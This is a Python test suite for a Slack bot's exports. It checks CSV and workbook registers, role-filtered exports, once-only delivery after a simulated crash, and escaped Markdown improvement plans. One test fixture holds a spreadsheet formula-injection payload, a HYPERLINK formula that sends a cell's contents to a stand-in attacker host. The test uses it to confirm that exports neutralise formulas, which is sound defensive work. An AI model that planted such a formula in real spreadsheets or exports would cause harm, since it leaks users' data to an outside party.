"""Exports and plans: what is in the files, who gets them, and that each comes once."""

from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest

from models import Improvement, Kpi, Outbox, Team
from models.enums import ClosureCode, QueueState, State, Step
from tests.conftest import Bot
from tests.support.commands import csi
from tests.support.files import content, csv_tables, shared_files, sheets
from tests.support.slack import BEN, CHLOE, LEO, MIA, Slack
from tests.support.story import answer, captured, closed, in_progress, read, rows, take

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Prize") opens when our list is exported'


def test_an_export_holds_the_register_without_a_formula_or_an_anonymous_author(slack: Slack, bot: Bot) -> None:
    number = closed(bot, notes="Laptops come in 2.8 days.")
    captured(bot, FORMULA, by=BEN)
    captured(bot, f'@sum(1) for <@{CHLOE}>; "quoted",\nnext line 🎉', by=BEN)
    slack.command(LEO, "/improve", "anonymously The boss shouts at us")
    bot.flush()

    assert "will be in your messages in a moment" in csi(slack, MIA, "export")
    bot.flush()

    workbook, packed = (content(file) for file in shared_files(slack, MIA)[-2:])
    tables = csv_tables(packed)
    assert sorted(tables) == ["activity", "readings", "register", "settings"]
    register = tables["register"]
    assert [row["Improvement"] for row in register] == ["IMP-1", "IMP-2", "IMP-3", "IMP-4"]
    assert register[0]["State"] == "closed"
    assert register[0]["Result"] == "successful"
    assert register[0]["Decision promised by"] == "2026-11-30"
    assert register[0]["Received (UTC)"].startswith("2026-11-23T10:30:")
    assert register[1]["Idea"] == f"'{FORMULA}"
    assert register[2]["Idea"].startswith("'@sum(1) for @")
    assert register[2]["Idea"].endswith('"quoted",\nnext line 🎉')
    assert register[3]["Author"] == "anonymous"
    assert [(row["KPI"], row["Value"]) for row in tables["readings"]][-1] == ("Days from request to laptop", "2.8")
    assert {row["Improvement"] for row in tables["activity"]} >= {f"IMP-{number}"}
    everything = sheets(workbook)
    assert list(everything) == ["register", "readings", "activity", "settings"]
    cells = [cell for sheet in everything.values() for row in sheet for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    assert f"'{FORMULA}" in cells
    assert "2.8" in cells
    assert not [row for table in tables.values() for row in table if LEO in str(row) or "Leo" in str(row)]


def test_an_export_follows_filters_and_roles_and_comes_once_although_it_is_killed_and_messages_go_on_meanwhile(
    slack: Slack, bot: Bot, monkeypatch: pytest.MonkeyPatch
) -> None:
    captured(bot, "The lift is slow")
    number = captured(bot, "Servers are warm", by=BEN)
    with bot.db.begin() as session:
        team = Team(name="Ops", manager_id=CHLOE, created_at=bot.clock())
        session.add(team)
        session.flush()
        session.get_one(Improvement, number).team_id = team.id or 0
    take(bot, 1, Step.DECLINE, by=MIA, reason="Next year")

    assert "Only managers and leadership can export" in csi(slack, BEN, "export")
    assert "nothing to export" in csi(slack, MIA, "export on hold")
    csi(slack, MIA, "export declined")
    assert "Only Ops" in csi(slack, CHLOE, "export")
    bot.flush()
    chosen, of_team = (csv_tables(content(shared_files(slack, who)[-1])) for who in (MIA, CHLOE))
    assert [row["Idea"] for row in chosen["register"]] == ["The lift is slow"]
    assert {row["Improvement"] for row in chosen["activity"]} == {"IMP-1"}
    assert [row["Idea"] for row in of_team["register"]] == ["Servers are warm"]
    assert "settings" not in of_team

    csi(slack, MIA, "export all")
    shared = len(shared_files(slack, MIA))
    slack.message(MIA, "The door squeaks")
    assert bot.kaizen is not None
    sender, file_sender = bot.kaizen.sender, bot.kaizen.file_sender
    deliver = file_sender._deliver

    def other_messages_go_on(*args: Any) -> Any:
        """While the files are being made and sent, the person's messages come; then the process dies."""
        assert sender.flush() > 0
        assert "The door squeaks" in slack.messages(MIA)[-1].text
        assert len(shared_files(slack, MIA)) == shared
        return deliver(*args)

    monkeypatch.setattr(file_sender, "_deliver", _killed_after(other_messages_go_on))
    with pytest.raises(KeyboardInterrupt):
        file_sender.flush()
    monkeypatch.undo()
    with bot.db.begin() as session:
        for row in rows(bot, Outbox):
            if row.state is QueueState.CLAIMED:
                row.claimed_until = datetime(2020, 1, 1, tzinfo=UTC)
                session.merge(row)
    bot.flush()
    assert len(shared_files(slack, MIA)) == shared + 2


def _killed_after(deliver: Any) -> Any:
    """Let Slack take what is delivered, and the process die before it is noted."""

    def killed(*args: Any) -> None:
        deliver(*args)
        raise KeyboardInterrupt

    return killed


def test_a_plan_is_one_file_that_shows_peoples_words_as_they_are(slack: Slack, bot: Bot) -> None:
    number = in_progress(bot, "Laptops | take *two* weeks <b>\n# not a heading")
    answer(bot, number, baseline="1. It takes 14 days\n- sometimes more")

    assert "The plan of IMP-1 will be in your messages" in csi(slack, BEN, "export 1")
    bot.flush()

    file = shared_files(slack, BEN)[-1]
    assert file["name"] == "IMP-1-plan.md"
    text = content(file).decode()
    assert text.startswith("# Service improvement plan: IMP-1\n")
    assert "> Laptops \\| take \\*two\\* weeks &lt;b&gt;  \n> \\# not a heading" in text
    assert "### 6. How do we keep the momentum going?" in text
    assert "> 1\\. It takes 14 days  \n> \\- sometimes more" in text
    assert "| 1.1 | Order five laptops | Ben" in text
    assert "- **Accountable:** Chlo" in text
    assert "## Risk" in text
    assert "## History" in text
    assert "## Value" not in text
    assert "- **Now:** not measured yet" in text

    with bot.db.begin() as session:
        session.get_one(Kpi, 1).tolerance_high = Decimal(10)
    read(bot, "16")
    with bot.db.begin() as session:
        session.get_one(Improvement, 2).closure_code = ClosureCode.WITHDRAWN
        session.get_one(Improvement, 2).state = State.CLOSED
    csi(slack, BEN, "export 2")
    bot.flush()
    made = content(shared_files(slack, BEN)[-1]).decode()
    assert "- **State:** closed as withdrawn\n- **Idea by:** a KPI that was out of tolerance\n" in made

    slack.command(MIA, "/csi", "1")
    slack.messages(MIA, "C01GENERAL")[-1].press("Plan as a file", by=MIA)
    assert "will be in your messages" in str(slack.modal(MIA)["blocks"])
    bot.flush()
    assert "## Value" in content(shared_files(slack, MIA)[-1]).decode()
